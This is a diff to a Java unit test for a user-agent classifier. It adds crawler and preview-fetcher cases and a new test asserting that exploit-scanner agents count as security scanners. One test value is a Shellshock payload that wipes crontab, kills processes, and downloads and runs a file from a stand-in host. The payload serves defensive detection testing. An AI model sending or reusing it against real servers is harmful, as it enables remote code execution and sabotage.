@@ -11,6 +11,7 @@ import java.util.Random;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
 
 class CrawlerIdentifierTest {
 
@@ -114,7 +115,12 @@ class CrawlerIdentifierTest {
         "WireReaderBot/1.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)|WireReaderBot|fetcher_feed",
         "Doximity-Diffbot|Doximity-Diffbot|crawler_ai",
         "Mozilla/5.0 (compatible; BLEXBot/1.0; +http://webmeup-crawler.com/)|BLEXBot Crawler|crawler_seo",
-        "Mozilla/5.0 (compatible; ExampleResearchBot/0.1)|Generic Bot|crawler_other",
+        "Mozilla/5.0 (compatible; ExampleResearchBot/0.1)|Generic Bot|security_scanner",
+        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; Google Web Preview) Chrome/27.0.1453 Safari/537.36|Google Web Preview|fetcher_preview",
+        "Google-AdWords-Express|Google-AdWords-Express|crawler_ads",
+        "Mozilla/5.0 (compatible; Google-Lens/1.0)|Google-Lens|fetcher_user",
+        "Mozilla/5.0 (compatible; DuckDuckGo-Favicons-Bot/1.0; +http://duckduckgo.com)|DuckDuckGo-Favicons-Bot|fetcher_user",
+        "Slack-ImgProxy 0.19 (+https://api.slack.com/robots)|Slack-ImgProxy|fetcher_preview",
         "360Spider-Image|360Spider|crawler_search",
         "Mozilla/5.0 (compatible; YandexMetrika/2.0; +http://yandex.com/bots)|YandexMetrika|crawler_search",
     })
@@ -124,6 +130,29 @@ class CrawlerIdentifierTest {
         assertThat(crawler).map(Crawler::name).contains(name);
         assertThat(crawler).map(Crawler::botType).contains(type);
         assertThat(crawler.get().verifiable()).isFalse();
+    }
+
+    /** Exploit scanners and what device-detector knows only as "Generic Bot", as the public logs of issue 29 hold them. */
+    @ParameterizedTest(name = "{0}")
+    @ValueSource(strings = {
+        "ZmEu",
+        "Mozilla/5.0 zgrab/0.x",
+        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+        "masscan/1.0 (https://github.com/robertdavidgraham/masscan)",
+        "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
+        "Morfeus Fucking Scanner",
+        "Hello, World",
+        "Hello, world",
+        "IDBTE4M CODE87",
+        "www.probethenet.com scanner",
+        "() { :;};/usr/bin/perl -e 'print \"Content-Type: text/plain\\r\\n\\r\\nXSUCCESS!\";system(\"crontab -r;killall -9 php perl; cd /tmp/ ; "
+                + "wget http://192.0.2.1/x ; perl x ; lwp-download http://192.0.2.1/x ; fetch http://192.0.2.1/x\");'",
+    })
+    void scannersAndBotsKnownOnlyAsGenericAreSecurityScannersTheReportLeavesOut(String agent) {
+        Optional<Crawler> crawler = identifier.identify(agent);
+
+        assertThat(crawler).map(Crawler::botType).contains(BotType.security_scanner);
+        assertThat(crawler.get().botType().shownByDefault()).isFalse();
     }
 
     @Test
